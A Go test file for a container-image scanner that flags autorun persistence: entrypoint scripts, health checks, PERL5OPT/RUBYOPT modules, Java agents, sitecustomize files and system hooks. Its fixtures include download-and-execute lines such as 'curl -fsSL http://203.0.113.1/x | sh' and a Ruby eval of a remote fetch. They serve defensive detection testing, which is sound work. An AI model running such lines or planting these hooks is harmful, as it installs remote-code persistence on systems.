package autorun

import (
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
)

// What the image starts is looked through, and what that reads or runs in turn; calm twins start only what is theirs.
func TestWhatTheEntrypointRunsIsLookedThrough(t *testing.T) {
	script := func(line string) member { return exe("app/start.sh", "#!/bin/sh\n"+line+"\nexec /app/server\n") }
	for name, test := range map[string]struct {
		config  v1.Config
		members []member
		want    string // severity of the row of the entrypoint
		names   string
	}{
		"the script itself":        {v1.Config{Entrypoint: []string{"/app/start.sh"}}, []member{script(strings.TrimSpace(fetch))}, "high", "/app/start.sh"},
		"without a first line":     {v1.Config{Entrypoint: []string{"/app/start"}}, []member{exe("app/start", "x=1\n"+fetch)}, "high", "/app/start"},
		"below the working folder": {v1.Config{Entrypoint: []string{"./start.sh"}, WorkingDir: "/app"}, []member{script(strings.TrimSpace(fetch))}, "high", "/app/start.sh"},
		"what it reads":            {v1.Config{Entrypoint: []string{"/app/start.sh"}}, []member{script(". /app/lib.sh"), file("app/lib.sh", fetch)}, "high", "/app/lib.sh"},
		"what it gives to a shell": {v1.Config{Cmd: []string{"/app/start.sh"}}, []member{script("if true; then bash /app/lib.sh; fi"), file("app/lib.sh", fetch)}, "high", "/app/lib.sh"},
		"a folder of scripts":      {v1.Config{Entrypoint: []string{"/app/start.sh"}}, []member{script("run-parts --exit-on-error /app/init.d"), exe("app/init.d/50-x", "#!/bin/sh\n"+fetch)}, "high", "/app/init.d/50-x"},
		"a loop over a folder":     {v1.Config{Entrypoint: []string{"/app/start.sh"}}, []member{script(`for f in /app/init.d/*.sh; do . "$f"; done`), file("app/init.d/50-x.sh", fetch)}, "high", "/app/init.d/50-x.sh"},
		"a comment reads nothing":  {v1.Config{Entrypoint: []string{"/app/start.sh"}}, []member{script("# . /app/lib.sh"), file("app/lib.sh", fetch)}, "info", ""},
		"a harmless library":       {v1.Config{Entrypoint: []string{"/app/start.sh"}}, []member{script(". /app/lib.sh"), file("app/lib.sh", "wait_for() { until nc -z \"$1\" \"$2\"; do sleep 1; done; }\n")}, "info", ""},
		"a download of settings":   {v1.Config{Entrypoint: []string{"/app/start.sh"}}, []member{script("curl -fsSL https://config.example/app.json -o /app/config.json")}, "info", ""},
		"a program":                {v1.Config{Entrypoint: []string{"/app/server"}}, []member{exe("app/server", program("server"))}, "info", ""},
	} {
		t.Run(name, func(t *testing.T) {
			c := inspected(t, image{config: test.config, members: test.members}, nil)
			row := rowOf(t, c, KindEntrypoint)
			if string(row.Severity) != test.want {
				t.Errorf("%s: %+v", row.Severity, row)
			}
			if test.names != "" && !slices.ContainsFunc(c.Findings, func(f inspect.Finding) bool {
				return strings.HasSuffix(f.Subject, test.names) || strings.Contains(f.Detail, test.names)
			}) {
				t.Errorf("no finding names %s: %+v", test.names, c.Findings)
			}
		})
	}
}

// A health check is a script like any other.
func TestTheHealthCheckIsLookedThrough(t *testing.T) {
	config := v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD", "/app/h.sh"}}}
	bad := inspected(t, image{config: config, members: []member{exe("app/h.sh", "#!/bin/sh\n"+fetch)}}, nil)
	calm := inspected(t, image{config: config, members: []member{exe("app/h.sh", "#!/bin/sh\ncurl -fsS http://localhost/ || exit 1\n")}}, nil)
	if row := rowOf(t, bad, KindHealthCheck); row.Severity != inspect.High {
		t.Errorf("a check that runs what it downloads: %+v", row)
	}
	if row := rowOf(t, calm, KindHealthCheck); row.Severity.Rank() <= inspect.Medium.Rank() {
		t.Errorf("a check that asks the service: %+v", row)
	}
}

// Modules that options of an interpreter's variable name are found as the interpreter finds them, and looked through.
func TestModulesThatVariablesName(t *testing.T) {
	module := "package Boot;\nsystem('curl -fsSL http://203.0.113.1/x | sh');\n1;\n"
	with := func(env string, members ...member) image {
		return image{config: v1.Config{Env: []string{env}}, members: members}
	}
	bare := image{}
	for name, test := range map[string]struct {
		now  image
		want string // of the worst row
	}{
		"PERL5OPT with a directory":     {with("PERL5OPT=-I/opt/p -MBoot", file("opt/p/Boot.pm", module)), "high"},
		"PERL5OPT, a name of two":       {with("PERL5OPT=-I/opt/p -MSite::Boot=all", file("opt/p/Site/Boot.pm", module)), "high"},
		"PERL5OPT in the site's tree":   {with("PERL5OPT=-MBoot", file("usr/local/lib/site_perl/Boot.pm", module)), "high"},
		"RUBYOPT with a directory":      {with("RUBYOPT=-I/opt/r -rboot", file("opt/r/boot.rb", "system('curl -s http://203.0.113.1/x | sh')\n")), "high"},
		"PERL5LIB in front of strict":   {with("PERL5LIB=/opt/p", file("opt/p/strict.pm", "package strict;\n1;\n")), "medium"},
		"PERL5LIB of an application":    {with("PERL5LIB=/opt/p", file("opt/p/Shop.pm", "package Shop;\n1;\n")), ""},
		"RUBYLIB in front of json":      {with("RUBYLIB=/opt/r", file("opt/r/json.rb", "eval(URI.open('http://203.0.113.1/x').read)\n")), "high"},
		"RUBYLIB of an application":     {with("RUBYLIB=/opt/r/lib", file("opt/r/lib/shop.rb", "module Shop; end\n")), ""},
		"an agent in JAVA_OPTS":         {with("JAVA_OPTS=-Xmx1g -javaagent:/opt/a.jar", file("opt/a.jar", jar("Premain-Class: a.B"))), "medium"},
		"an agent in CATALINA_OPTS":     {with("CATALINA_OPTS=-javaagent:/opt/a.jar", file("opt/a.jar", jar("Premain-Class: a.B"))), "medium"},
		"memory in JAVA_OPTS":           {with("JAVA_OPTS=-Xmx1g -Dfile.encoding=UTF-8"), ""},
		"an agent in a file of options": {with("JDK_JAVA_OPTIONS=@/opt/options", file("opt/options", "-javaagent:/opt/a.jar\n"), file("opt/a.jar", jar("Premain-Class: a.B"))), "medium"},
	} {
		t.Run(name, func(t *testing.T) {
			worst := ""
			for _, a := range inspected(t, test.now, &bare).Images[0].Autoruns {
				if a.Layer != 0 && worst == "" {
					worst = string(a.Severity)
				}
			}
			if worst == "info" || worst == "low" {
				worst = ""
			}
			if worst != test.want {
				t.Errorf("the worst row is %q, not %q", worst, test.want)
			}
		})
	}
}

// A module that every start of an interpreter imports is seen in each of its forms. One without its source cannot be
// read: what is new and of no package is reported for that alone.
func TestModulesOfEveryStart(t *testing.T) {
	bare := image{}
	for name, test := range map[string]struct {
		members []member
		want    string
	}{
		"perl's":               {[]member{file("usr/local/lib/site_perl/sitecustomize.pl", "system('curl -s http://203.0.113.1/x | sh');\n")}, "high perl-site"},
		"perl's, harmless":     {[]member{file("usr/local/lib/site_perl/sitecustomize.pl", "push @INC, '/app/lib';\n")}, "low perl-site"},
		"compiled":             {[]member{file(site+"/sitecustomize.pyc", "\xcb\r\r\n\x00\x00exec")}, "high python-site"},
		"a native library":     {[]member{file(site+"/sitecustomize.cpython-313-x86_64-linux-gnu.so", program("site"))}, "high python-site"},
		"compiled, of a wheel": {wheel("agent", "1.0", file("sitecustomize.pyc", "\xcb\r\r\n\x00")), "low python-site"},
	} {
		t.Run(name, func(t *testing.T) {
			kind := KindPythonSite
			if strings.HasSuffix(test.want, KindPerlSite) {
				kind = KindPerlSite
			}
			if row := rowOf(t, inspected(t, image{members: test.members}, &bare), kind); string(row.Severity)+" "+row.Kind != test.want {
				t.Errorf("%s %s: %+v", row.Severity, row.Kind, row)
			}
		})
	}
}

// Further places from which programs are started: rows by their place alone, high with a strong sign.
func TestFurtherPlacesOfTheSystem(t *testing.T) {
	run := strings.TrimSpace(fetch)
	for name, test := range map[string]struct {
		member member
		want   string
	}{
		"supervisord":             {file("etc/supervisor/conf.d/app.conf", "[program:app]\ncommand=/app/server\n"), "info init"},
		"supervisord, fetches":    {file("etc/supervisord.d/x.ini", "[program:x]\ncommand=/bin/sh -c \""+run+"\"\n"), "high init"},
		"a rotation":              {file("etc/logrotate.d/app", "/var/log/a {\n weekly\n postrotate\n  kill -USR1 1\n endscript\n}\n"), "info cron"},
		"a rotation that fetches": {file("etc/logrotate.d/app", "/var/log/a {\n postrotate\n  "+run+"\n endscript\n}\n"), "high cron"},
		"an interface":            {exe("etc/network/if-up.d/x", "#!/bin/sh\n"+fetch), "high init"},
		"a lease":                 {file("etc/dhcp/dhclient-exit-hooks.d/x", fetch), "high init"},
		"a generator":             {exe("usr/lib/systemd/system-generators/x", "#!/bin/sh\n"+fetch), "high unit"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := listed(inspected(t, image{members: []member{test.member}}, nil)); !slices.Equal(got, []string{test.want + " /" + test.member.Name}) {
				t.Errorf("rows %q, not %q", got, test.want)
			}
		})
	}
}
